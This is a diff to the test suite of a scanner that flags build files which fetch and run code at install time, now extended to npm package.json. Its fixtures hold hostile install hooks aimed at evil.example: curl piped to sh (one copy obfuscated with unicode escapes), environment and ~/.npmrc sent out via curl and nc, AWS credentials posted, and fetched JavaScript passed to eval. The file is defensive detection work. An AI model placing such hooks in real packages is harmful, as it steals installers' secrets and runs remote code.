@@ -24,6 +24,7 @@ from tests.conftest import NOW
 from tests.test_archives import tarred, zipped
 
 CMAKE, MESON, MAKE, CONFIGURE = "demo-1.0/CMakeLists.txt", "demo-1.0/meson.build", "demo-1.0/Makefile", "demo-1.0/configure"
+NPM = "demo-1.0/ui/package.json"
 
 
 def told(path: str, text: str) -> list[tuple[str, int]]:
@@ -60,6 +61,17 @@ def told(path: str, text: str) -> list[tuple[str, int]]:
         (MAKE, "U = evil.example/x\nV != curl -s https://$(U) | \\\n  sh\n", 2),
         (MAKE, "all:\n\t@curl -F f=@$$HOME/.aws/credentials https://evil.example\n", 2),
         (CONFIGURE, "#!/bin/sh\nCC=cc\ncurl -fsSL https://evil.example/x | sh\n", 3),
+        (NPM, '{"scripts": {\n"test": "jest",\n"postinstall": "curl -s https://evil.example/x | sh"}}', 3),
+        (NPM, '\ufeff{"scripts": {"install": "\\u0063url -s https:\\/\\/evil.example/x | \\u0073h"}}', 1),
+        (NPM, '{"scripts": {"preinstall": "env | curl -s -d @- https://evil.example"}}', 1),
+        (NPM, '{"scripts": {"prepare": "cat ~/.npmrc | nc evil.example 80"}}', 1),
+        (NPM, '{"scripts": {"prepare": "echo aWQK | base64 -d | sh"}}', 1),
+        (
+            NPM,
+            """{"scripts": {"install": "node -e \\"fetch('https://evil.example').then(r=>r.text()).then(t=>eval(t))\\""}}""",
+            1,
+        ),
+        (NPM, '{"scripts": {"postinstall": "node n.js", "preinstall": "curl -so n.js https://evil.example/n.js"}}', 1),
     ],
 )
 def test_a_build_file_that_fetches_and_runs_is_told_with_its_line(path: str, text: str, line: int) -> None:
@@ -101,6 +113,16 @@ def test_a_build_file_that_fetches_and_runs_is_told_with_its_line(path: str, tex
         ),
         (MAKE, "V := $(shell git describe --tags)\nsetup:\n\tcurl -LsSf https://example.org/install.sh | sh\n"),
         (MAKE, "help:\n\t@echo 'curl https://example.org/x | sh'\ninstall:\n\tsystemctl enable demo\n"),
+        (
+            NPM,
+            '{"scripts": {"postinstall": "node scripts/fonts.js", "prepare": "husky", "preinstall": "npx only-allow pnpm"}}',
+        ),
+        (
+            NPM,
+            '{"scripts": {"deploy": "curl -s https://example.org/x | sh", "postinstall": "curl -so a.ttf https://example.org/a"}}',
+        ),
+        (NPM, "curl -s https://example.org/x | sh"),
+        (NPM, '["curl -s https://example.org/x | sh", {"scripts": "curl"}]'),
         (CONFIGURE, "#!/bin/sh\necho 'get it: curl https://example.org/x | sh'\nfor p in curl wget; do :; done\n"),
     ],
 )
@@ -112,6 +134,12 @@ def test_a_downloaded_build_file_that_is_included_is_another_thing() -> None:
     text = "file(DOWNLOAD https://example.org/CPM.cmake ${B}/CPM.cmake)\ninclude(${B}/CPM.cmake)\n"
     assert told(CMAKE, text) == [("build-include", 2)]
     assert told(CMAKE, text.replace("CPM.cmake)", "CPM.cmake EXPECTED_HASH SHA256=00)", 1)) == []
+
+
+def test_what_npm_installed_is_other_peoples() -> None:
+    assert build_system("package.json") == "npm"
+    assert not build_system("demo/node_modules/left/package.json")
+    assert not build_system("demo/my-package.json")
 
 
 def test_the_installer_of_a_known_tool_is_marked_as_its_makers() -> None:
@@ -130,6 +158,10 @@ def test_the_installer_of_a_known_tool_is_marked_as_its_makers() -> None:
         (CMAKE, Layout(is_source=True), b"subprocess.check_call(['cmake', '.'])", Moment.INSTALL),
         (MAKE, Layout(is_source=True), b"os.system('make -C src')", Moment.INSTALL),
         (MAKE, Layout(is_source=True), b"ext_modules = make_extensions()", Moment.SCRIPT),
+        (NPM, Layout(is_source=True), b"subprocess.call(['npm', 'install', '--silent'], cwd='ui')", Moment.INSTALL),
+        (NPM, Layout(is_source=True), b"os.system('cd ui && yarn')", Moment.INSTALL),
+        (NPM, Layout(is_source=True), b"setup(name='demo')", Moment.SCRIPT),
+        (NPM, Layout(is_source=False), b"", Moment.CALL),
     ],
 )
 def test_it_runs_at_installation_where_the_backend_or_setup_py_starts_it(
@@ -139,6 +171,7 @@ def test_it_runs_at_installation_where_the_backend_or_setup_py_starts_it(
         "meson": "run_command('sh', '-c', 'curl https://evil.example/x | sh')",
         "cmake": 'execute_process(COMMAND sh -c "curl https://evil.example/x | sh")',
         "make": "X := $(shell curl https://evil.example/x | sh)",
+        "npm": '{"scripts": {"install": "curl https://evil.example/x | sh"}}',
     }[build_system(path)]
     (fact,) = build_facts(path, text.encode()).facts
     assert at_its_moment(fact, shape, setup).moment is moment
@@ -210,6 +243,8 @@ def test_what_is_too_much_of_a_build_file_is_said(monkeypatch: pytest.MonkeyPatc
         ("curl -o a" + "\\\n" * 1_900 + "\n") * 50,
         ("curl a" + "&" * 3_900 + "\n") * 20,
         "X = $(X)$(X) curl\n" * 4_000 + "Y := $(shell $(X)",
+        "[" * 200_000 + "curl",
+        '{"scripts": {"install": "' + "curl a&" * 100_000 + '"}}',
         "$(shell " * 1_000 + "curl",
         "$(shell \\\n" * 100_000 + "curl",
         "\\\n" * 200_000 + "curl",
@@ -217,7 +252,7 @@ def test_what_is_too_much_of_a_build_file_is_said(monkeypatch: pytest.MonkeyPatc
     ],
 )
 def test_a_file_made_to_take_long_ends(text: str) -> None:
-    for path in (MESON, CMAKE, MAKE, CONFIGURE):
+    for path in (MESON, CMAKE, MAKE, CONFIGURE, NPM):
         build_facts(path, text.encode())
 
 
